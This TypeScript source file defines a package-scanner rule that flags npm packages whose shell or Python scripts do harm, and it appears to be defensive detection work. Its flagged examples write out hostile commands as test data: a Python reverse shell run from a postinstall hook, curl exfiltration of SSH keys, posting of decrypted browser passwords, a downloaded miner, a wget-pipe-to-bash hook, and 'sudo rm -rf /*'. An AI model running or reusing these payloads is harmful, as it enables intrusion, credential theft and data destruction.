import { defineRule } from '../src/define.js';
import type { PackageContext, SourceFile, Step } from '../src/types.js';
import { DEEDS, type Deed, deedsOf } from '../src/vocabulary/deeds.js';
import { languageOf, scriptDeeds } from '../src/vocabulary/scripts.js';

/** Deeds no script of a package has an honest reason for. */
const HARMS: ReadonlySet<Deed> = new Set<Deed>(['reverse-shell', 'exfiltrate', 'destroy', 'backdoor', 'mine']);
/** Deeds that installers and tools of their own kind do, too. */
const DOUBTFUL: ReadonlySet<Deed> = new Set<Deed>(['download-run', 'escape', 'disarm', 'persist', 'odd-contact']);

/** Scripts that no installation from a registry runs, but one from git, and the project itself. */
const PREPARING = /^(?:(?:pre|post)?prepare|prepublish)$/;

export default defineRule({
  meta: {
    summary: 'Brings a script in another language that does harm',
    why: 'A package of JavaScript may bring shell, Python or Visual Basic for a build or a release; such scripts compile and copy. One that joins a socket to a shell, or reads stored passwords and posts them, is a payload, and weighs most when the package starts it. Installers in scripts do download what they run, so that alone weighs little where nothing starts it.',
    behaviour: 'execution',
    messages: {
      installed: '{path}, which runs on installation, {says}',
      harms: '{path}, which the package starts, {says}',
      doubtful: '{path}, which the package starts, {says}',
      brought: '{path} {says}',
      manifest: 'The script {path} of the manifest {says}',
      prepares: 'The script {path}, which runs where the package is fetched from git, {says}',
    },
    bits: { installed: 14, harms: 13.5, doubtful: 7, brought: 5, manifest: 10.5, prepares: 3 },
  },
  examples: {
    flags: [
      {
        title: 'what is run where the package is fetched from git downloads what it runs',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"prepare":"wget -qO- https://tool.invalid/i | bash"}}',
        },
      },
      {
        title: 'a Python script the code starts posts saved passwords',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `require('child_process').exec('start /b python main.py');`,
          'main.py':
            'import requests\nfrom win32crypt import CryptUnprotectData\nrequests.post("https://collect.invalid", data=CryptUnprotectData(blob))\n',
        },
      },
      {
        title: 'a shell file the code starts sends keys',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `require('child_process').execSync('sh ./run.sh');`,
          'run.sh': 'curl -F "k=@$HOME/.ssh/id_rsa" https://collect.invalid\n',
        },
      },
      {
        title: 'a shell file the code starts mines with what it downloaded',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `require('child_process').spawn('bash', ['./warm.sh']);`,
          'warm.sh':
            'wget -q https://stage.invalid/w -O /tmp/w\nchmod 755 /tmp/w\n/tmp/w --donate-level 1 -o pool.invalid:443\n',
        },
      },
      {
        title: 'a Python script the hook starts opens a shell',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"python3 setup.py"}}',
          'setup.py':
            'import socket, os, pty\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")\n',
        },
      },
      {
        title: 'the test script wipes the disk',
        files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"test":"sudo rm -rf /*"}}' },
      },
    ],
    passes: [
      {
        title: 'the tests of a server let themselves in, by a key that they make',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'ci/test.sh': `HOME=$(mktemp -d)\nmkdir "$HOME/.ssh"\nssh-keygen -t rsa -f "$HOME/.ssh/id_rsa" -N "" -q\ncat "$HOME/.ssh/id_rsa.pub" >> "$HOME/.ssh/authorized_keys"\n`,
        },
      },
      {
        title: 'a project is built and its git hooks are set up',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"prepare":"husky && tsc -p . && cat LICENSE | head -n 1"}}',
        },
      },
      {
        title: 'scripts for the package’s authors clean, fetch and log in',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"clean":"rm -rf dist ../out","setup":"curl -sSf https://tool.invalid/i.sh | sh","up":"ssh me@host.invalid \\"cd $(pwd) && make\\""}}',
        },
      },
      {
        title: 'a script downloads, beside the package’s code, for its authors',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': '',
          'scripts/setup.sh': 'curl -sSf https://tool.invalid/install.sh | sh\n',
        },
      },
      {
        title: 'a Python script that the code starts asks a server',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `require('child_process').exec('python3 main.py');`,
          'main.py': 'import os, requests\nprint(requests.get("https://api.invalid/" + os.environ["REGION"]).json())\n',
        },
      },
      {
        title: 'a shell file uploads what was built',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': '',
          'release.sh': 'curl -H "Authorization: token $TOKEN" -T dist/a.tgz https://upload.invalid/$(uname -m)\n',
        },
      },
    ],
  },
  package(context) {
    const {
      package: { files },
      momentOf,
      startedBy,
      sourceOf,
      shellFiles,
      otherScripts,
      report,
    } = context;
    const manifest = sourceOf('package.json');
    for (const { name, commands } of manifest ? otherScripts : []) {
      const [worst] = deedsOf(commands).filter(
        ({ deed }) => HARMS.has(deed) || (PREPARING.test(name) && deed === 'download-run'),
      );
      if (!worst || !manifest) continue;
      const start = Math.max(0, manifest.text.indexOf(`"${name}"`));
      report({
        messageId: HARMS.has(worst.deed) ? 'manifest' : 'prepares',
        data: { path: name, says: worst.says },
        chain: [{ role: 'sink', says: worst.says, origin: { file: manifest, start, end: start + name.length + 2 } }],
      });
    }
    const commandsOf = new Map(shellFiles.map(({ file, commands }) => [file, commands]));
    for (const [path, text] of files) {
      if (typeof text !== 'string' || /\.(?:[cm]?[jt]sx?|json|md|html?|css|map)$/i.test(path)) continue;
      const file = sourceOf(path) as SourceFile;
      const language = languageOf(path, text);
      const commands = commandsOf.get(file) ?? [];
      const moment = momentOf(path);
      // What a hook starts in the shell is a command on installation.
      if (
        moment === 'test' ||
        (language === undefined && (commands.length === 0 || (moment === 'install' && startedBy(path) !== undefined)))
      )
        continue;
      const found = [
        ...(language === undefined ? [] : scriptDeeds(text, language)),
        ...deedsOf(commands).map(({ deed, says, command }) => {
          const start = Math.max(0, text.indexOf(command.text));
          return { deed, says, start, end: Math.min(text.length, start + command.text.length) };
        }),
      ].sort((a, b) => DEEDS.indexOf(a.deed) - DEEDS.indexOf(b.deed));
      // Of one that downloads what it runs, and mines, the second is what it is for.
      const worst =
        found.find(({ deed }) => HARMS.has(deed)) ??
        found.find(({ deed }) => DOUBTFUL.has(deed) && moment !== 'unreached');
      if (!worst) continue;
      const harms = HARMS.has(worst.deed) || (language !== undefined && worst.deed === 'download-run');
      report({
        messageId:
          moment === 'unreached' ? 'brought' : !harms ? 'doubtful' : moment === 'install' ? 'installed' : 'harms',
        data: { path, says: worst.says },
        chain: [
          ...triggerOf(context, path),
          { role: 'sink', says: worst.says, origin: { file, start: worst.start, end: worst.end } },
        ],
      });
    }
  },
});

function triggerOf({ startedBy, triggers, sourceOf }: PackageContext, path: string): readonly Step[] {
  const from = startedBy(path);
  const trigger = triggers.find(one => one.from === from);
  const file = trigger && sourceOf(trigger.at.path);
  if (!trigger || !file) return [];
  return [
    {
      role: 'trigger',
      says: `reached from ${trigger.from}`,
      origin: { file, start: trigger.at.start, end: trigger.at.end },
    },
  ];
}
